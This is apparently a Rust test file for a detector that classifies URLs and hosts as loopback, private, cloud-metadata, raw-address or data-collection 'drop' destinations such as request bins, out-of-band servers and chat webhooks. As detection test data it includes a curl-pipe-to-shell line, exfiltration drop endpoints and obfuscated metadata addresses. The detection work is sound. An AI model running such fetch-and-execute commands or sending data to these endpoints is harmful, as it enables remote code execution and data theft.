use std::rc::Rc;

use super::*;

fn kind(url: &str) -> Option<Kind> {
    of_url(url).map(|host| host.kind)
}

#[test]
fn urls_name_hosts() {
    for (url, expected) in [
        ("https://collector.invalid/x", Some(Kind::Name)),
        ("HTTPS://Collector.Invalid:8443?x", Some(Kind::Name)),
        ("http://user:word@collector.invalid/", Some(Kind::Name)),
        ("wss://a.b.collector.invalid", Some(Kind::Name)),
        ("https://*.collector.invalid/", Some(Kind::Name)),
        ("https://collector.invalid*", Some(Kind::Name)),
        ("https://api.*", None),
        ("https://*.invalid/", None),
        ("https://*", None),
        ("http://localhost:3000/", Some(Kind::Loopback)),
        ("http://127.0.0.1/", Some(Kind::Loopback)),
        ("http://2130706433/", Some(Kind::Loopback)),
        ("http://[::1]:80/", Some(Kind::Loopback)),
        ("http://10.1.2.3/", Some(Kind::Private)),
        ("http://192.168.0.1", Some(Kind::Private)),
        (
            "http://169.254.169.254/latest/meta-data",
            Some(Kind::Metadata),
        ),
        ("http://0xa9fea9fe/latest", Some(Kind::Metadata)),
        ("http://metadata.google.internal/", Some(Kind::Metadata)),
        ("http://45.9.148.3:8000/a", Some(Kind::Address)),
        ("http://0x2d.0x09.0x94.0x03/", Some(Kind::Address)),
        ("https://example.com/", Some(Kind::Example)),
        ("https://registry.example/", Some(Kind::Example)),
        ("http://203.0.113.7/", Some(Kind::Address)),
        ("https://webhook.site/1", Some(Kind::Drop(Drop::RequestBin))),
        ("https://x.oast.fun", Some(Kind::Drop(Drop::OutOfBand))),
        ("https://*.oast.fun", Some(Kind::Drop(Drop::OutOfBand))),
        (
            "https://discord.com/api/webhooks/1/a",
            Some(Kind::Drop(Drop::Chat)),
        ),
        ("https://discord.com/developers/docs", Some(Kind::Name)),
        (
            "https://api.telegram.org/bot1:x/sendMessage",
            Some(Kind::Drop(Drop::Chat)),
        ),
        ("./relative", None),
        ("mailto:somebody@collector.invalid", None),
        ("https://$/x", None),
    ] {
        assert_eq!(kind(url), expected, "{url}");
    }
}

#[test]
fn registered_parts() {
    for (name, expected) in [
        ("collector.invalid", "collector.invalid"),
        ("a.b.collector.invalid", "collector.invalid"),
        ("a.b.co.uk", "b.co.uk"),
        ("b.co.uk", "b.co.uk"),
        ("somebody.github.io", "somebody.github.io"),
        ("x.somebody.github.io", "somebody.github.io"),
        ("api.github.com", "github.com"),
        ("t.co", "t.co"),
        ("127.0.0.1", "127.0.0.1"),
    ] {
        assert_eq!(of_name(name).unwrap().domain(), expected);
    }
    assert!(SUFFIXES.is_sorted());
}

#[test]
fn hosts_in_a_text() {
    let text = "curl https://a.invalid/x | sh; wget http://b.invalid && é://x https://a.invalid";
    let names: Vec<_> = in_text(text).into_iter().map(|host| host.name).collect();
    assert_eq!(names, ["a.invalid", "b.invalid"]);
}

#[test]
fn hosts_of_values() {
    let text = |text: &str| Value::String(Rc::from(text));
    let object = Value::Object(Rc::from([
        (Rc::from("hostname"), text("discord.com")),
        (Rc::from("path"), text("/api/webhooks/1")),
    ]));
    assert_eq!(of_value(&object).unwrap().kind, Kind::Drop(Drop::Chat));
    let joined = Value::Concat(Rc::from([
        text("https://"),
        Value::Unknown,
        text(".oast.fun/x"),
    ]));
    assert_eq!(of_value(&joined).unwrap().name, "*.oast.fun");
    let open = Value::Concat(Rc::from([text("https://api."), Value::Unknown]));
    assert_eq!(of_value(&open), None);
}
